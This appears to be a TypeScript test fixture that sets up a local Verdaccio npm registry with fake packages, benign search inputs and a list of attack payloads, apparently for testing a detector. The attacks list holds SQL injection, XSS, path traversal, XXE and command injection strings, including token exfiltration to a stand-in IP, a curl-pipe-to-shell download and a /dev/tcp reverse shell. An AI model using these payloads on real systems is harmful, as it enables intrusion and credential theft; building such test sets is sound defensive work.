// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold such text literally.
import type { Page } from "playwright";
import type { Application } from "../application.ts";

const config = `
storage: ./storage
auth:
  htpasswd:
    file: ./htpasswd
web:
  title: Tidewater packages
  rateLimit:
    windowMs: 1000
    max: 100000
userRateLimit:
  windowMs: 1000
  max: 100000
uplinks: {}
packages:
  '@*/*':
    access: $authenticated
    publish: $authenticated
  '**':
    access: $all
    publish: $authenticated
middlewares:
  audit:
    enabled: false
log: { type: stdout, format: pretty, level: warn }
`;

/** Packages as `npm publish` leaves them in the store. */
const makeStore = `
import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
const tarball = gzipSync(Buffer.alloc(1024));
const shasum = createHash("sha1").update(tarball).digest("hex");
const themes = ["tide-tables", "harbour-ui", "knots-to-kmh", "@tidewater/charts", "@tidewater/ais-decoder", "@tidewater/eslint-config", "nmea-lines", "buoy-colours", "lock-gate", "mooring", "sextant-math", "gale-warning", "dredger-cli", "pilot-book", "@tidewater/i18n", "log-book", "flotilla", "anchor-watch"];
const list = [];
themes.forEach((name, i) => {
  const versions = {};
  const time = { created: "2026-01-0" + (1 + i % 9) + "T09:00:00.000Z", modified: "2026-03-1" + (i % 9) + "T09:00:00.000Z" };
  const base = name.split("/").pop();
  const attachments = {};
  for (const version of ["0.9.0", "1.0.0", "1.1." + i].slice(0, 1 + i % 3)) {
    const file = base + "-" + version + ".tgz";
    versions[version] = {
      name, version, description: "The " + base.replaceAll("-", " ") + " of the Tidewater offices", license: "ISC", main: "index.js",
      keywords: ["tidewater", base.split("-")[0]], author: { name: "Tidewater", email: "packages@example.org" },
      dependencies: { [themes[(i + 3) % themes.length]]: "^1.0.0", [themes[(i + 5) % themes.length]]: "*" },
      devDependencies: { [themes[(i + 7) % themes.length]]: "~0.9.0" },
      readme: "# " + base + "\\n\\nSee [tide-tables](/-/web/detail/tide-tables) and [mooring](/-/web/detail/mooring).",
      _id: name + "@" + version, dist: { shasum, tarball: "http://127.0.0.1/" + name + "/-/" + file },
    };
    time[version] = "2026-02-1" + (i % 9) + "T09:00:00.000Z";
    attachments[file] = { shasum, version };
    mkdirSync("storage/" + name, { recursive: true });
    writeFileSync("storage/" + name + "/" + file, tarball);
  }
  const latest = Object.keys(versions).at(-1);
  writeFileSync("storage/" + name + "/package.json", JSON.stringify({ name, versions, time, "dist-tags": { latest }, _uplinks: {}, _distfiles: {}, _attachments: attachments, _rev: "3-" + shasum.slice(0, 16), _id: name, readme: versions[latest].readme }));
  list.push(name);
});
writeFileSync("storage/.verdaccio-db.json", JSON.stringify({ list, secret: shasum.slice(0, 32) }));
writeFileSync("htpasswd", "skipper:{SHA}" + createHash("sha1").update("fair-winds-26").digest("base64") + ":autocreated 2026-01-02T08:00:00.000Z\\n");
`;

async function signIn(page: Page, origin: string) {
  await page.goto(origin);
  await page.locator("[data-testid=header--button-login]").click();
  await page.locator("#login--dialog-username").fill("skipper");
  await page.locator("#login--dialog-password").fill("fair-winds-26");
  await page.locator("#login--dialog-button-submit").click();
  await page.waitForTimeout(1_000);
}

/** A private registry of npm packages; its visitors sign in and search it from every page, by name and by whatever they remember. */
export const verdaccio: Application = {
  name: "verdaccio",
  // The later ones ask for a tag of one of their dependencies that not every mirror of the registry has.
  packages: { npm: ["verdaccio@5.17.0"] },
  files: () => ({ "config.yaml": config, "make.mjs": makeStore }),
  prepare: () => [["node", "make.mjs"]],
  start: ({ port }) => ["verdaccio", "--config", "config.yaml", "--listen", `127.0.0.1:${port}`],
  ready: "/-/ping",
  enter: signIn,
  pages: [
    "/",
    "/-/web/detail/tide-tables",
    "/-/web/detail/harbour-ui",
    "/-/web/detail/harbour-ui/v/0.9.0",
    "/-/web/detail/@tidewater/charts",
    "/-/web/detail/@tidewater/ais-decoder",
    "/-/web/detail/nmea-lines",
    "/-/web/detail/anchor-watch",
    "/-/web/detail/gale-warning",
    "/tide-tables",
    "/-/v1/search?text=tide&size=20",
  ],
  avoid: /tarball|\.tgz/i,
  texts: {
    searches: [
      "tide",
      "harbour-ui",
      "@tidewater/",
      "@tidewater/charts",
      "nmea parser",
      "ais decoder typescript",
      "knots to km/h",
      "eslint-config",
      "log-book@1.1.15",
      "mooring@^1.0.0",
      "keywords:tidewater",
      "author:packages",
      "anchor watch (beta)",
      "buoy colours & marks",
      "what's new",
      "lock gate",
      "i18n de-DE",
      "Gezeiten",
      "marées",
      "潮汐",
      "sextant-math >=0.9.0 <2",
      "require('mooring')",
      "import { tide } from",
      "dredger cli --help",
      "50% faster",
      "peer dep",
      "gale-warning || flotilla",
      "skipper's fork",
      "left-pad",
      "node 20",
      "~0.9.0",
      "c++ bindings",
      "*-ui",
      'pilot book "offline"',
      "a/b testing",
      "ISC",
      "🐙",
    ],
    lines: [
      "tide-tables",
      "harbour-ui@latest",
      "@tidewater/i18n",
      "beta",
      "next",
      "1.1.3",
      "^1.0.0 || ^2.0.0",
      "skipper",
      "packages@example.org",
      "ISC OR MIT",
      "charts (canvas)",
      "it's the new build",
      "flotilla/core",
      "lock-gate#main",
      "npm:mooring@0.9.0",
      "file:../charts",
      "git+https://git.example.org/tide.git",
      "workspace:*",
      "Hafen-Oberfläche",
      "noms de bouées",
      "decoder; type 18 + 24",
      "types/node",
      "sextant'26",
      "≥ 1.0.0",
      "log-book.d.ts",
      "esm-only",
    ],
    long: [
      "# tide-tables\n\nHeights and times for the 14 ports of the district.\n\n```js\nimport { next } from 'tide-tables';\nconsole.log(next('Weir Quay')?.height ?? \"n/a\");\n```",
      "npm install --save-dev @tidewater/eslint-config --registry=https://npm.tidewater.example/",
      '{\n  "name": "harbour-ui",\n  "version": "1.1.1",\n  "scripts": { "build": "tsc -b && vite build", "test": "vitest run" }\n}',
      "Breaking: `decode()` throws on checksum errors (it used to return null). Wrap it in try { … } catch (e) { … } or pass { strict: false }.",
      "registry=https://npm.tidewater.example/\n//npm.tidewater.example/:_authToken=${NPM_TOKEN}\nalways-auth=true",
      "We've moved the colours into CSS variables; `--buoy-port: #c00` isn't \"red enough\" for IALA B, see https://example.org/iala?region=b#marks",
      "| from | to |\n|------|----|\n| 0.9.x | run `npx dredger-cli migrate ./charts` |\n| 1.0.x | nothing |",
      "Für Version 2: Übersetzungen nach @tidewater/i18n auslagern, »Ebbe« und »Flut« nicht vergessen; 100% Abdeckung wäre schön.",
      "SELECT is what the old plugin called its picker; since 1.1 it is <HarbourSelect options={ports} />, and the `where` prop is gone.",
      "find . -name '*.tgz' -mtime +30 -print\n\nlists the stale tarballs; don't delete those with a dist-tag.",
      "Math: h(t) = A·cos(2πt/T + φ) + MSL, with T ≈ 12.42 h. Error < 0.1 m in 95 % of cases.",
      "Changelog\n- fix: O'Hara's report (negative longitudes)\n- feat: `--json`\n- chore: node 18 → 20",
      "type Mark = 'port' | 'starboard' | \"safe water\";\nexport const isLateral = (m: Mark): boolean => m !== \"safe water\";",
      "リリースノート：型定義を追加しました。`import type { Tide }` を使ってください。",
      'Question: does anchor-watch need root for the GPS at /dev/ttyUSB0? No; add yourself to the group "dialout".',
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload: "tide' AND 2853=CONVERT(INT,(SELECT CHAR(113)+DB_NAME()+CHAR(113))) AND 'a'='a",
    },
    { class: "sql_injection", payload: 'mooring") OR NOT 5519=5519 UNION SELECT username,password FROM users-- vRtY' },
    { class: "sql_injection", payload: "1'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(99),5) FROM DUAL)||'" },
    {
      class: "sql_injection",
      payload: "charts%' AND 8841=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2)))) AND '%'='",
    },
    { class: "sql_injection", payload: "flotilla' ORDER BY 14-- -" },
    { class: "sql_injection", payload: "'/**/uNiOn/**/aLl/**/sElEcT/**/1,token,3/**/fRoM/**/tokens--+" },
    { class: "xss", payload: 'tide"><input autofocus onfocus=alert(localStorage.token)>' },
    {
      class: "xss",
      payload: "<video><source onerror=\"fetch('https://203.0.113.90/t?'+localStorage.getItem('token'))\"></video>",
    },
    {
      class: "xss",
      payload: "'-top['con'+'firm'](7391)-'\"><svg><animate onbegin=confirm(7391) attributeName=x dur=1s>",
    },
    { class: "xss", payload: "%3Cmarquee%20onstart%3Dprompt%28document.domain%29%3Eharbour" },
    { class: "xss", payload: "[readme](javascript:window.onerror=eval;throw'=alert\\x281\\x29')" },
    { class: "path_traversal", payload: "../../../../etc/verdaccio/htpasswd" },
    { class: "path_traversal", payload: "@tidewater%2f..%2f..%2f..%2f.verdaccio-db.json" },
    { class: "path_traversal", payload: "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd" },
    { class: "path_traversal", payload: "..;/..;/..;/home/node/.npmrc" },
    { class: "command_injection", payload: "mooring;curl${IFS}203.0.113.90/p|sh" },
    {
      class: "command_injection",
      payload: "__proto__[shell]=/proc/self/exe&__proto__[NODE_OPTIONS]=--require /proc/self/environ",
    },
    { class: "command_injection", payload: "#{7*7}{{constructor.constructor('return process.env')()}}" },
    {
      class: "command_injection",
      payload: "gale-warning\n/bin/bash -c 'exec 3<>/dev/tcp/203.0.113.90/4444;cat <&3|sh >&3'",
    },
    {
      class: "xxe",
      payload: '<!DOCTYPE pkg [<!ENTITY h SYSTEM "file:///verdaccio/conf/config.yaml">]><pkg><name>&h;</name></pkg>',
    },
  ],
};
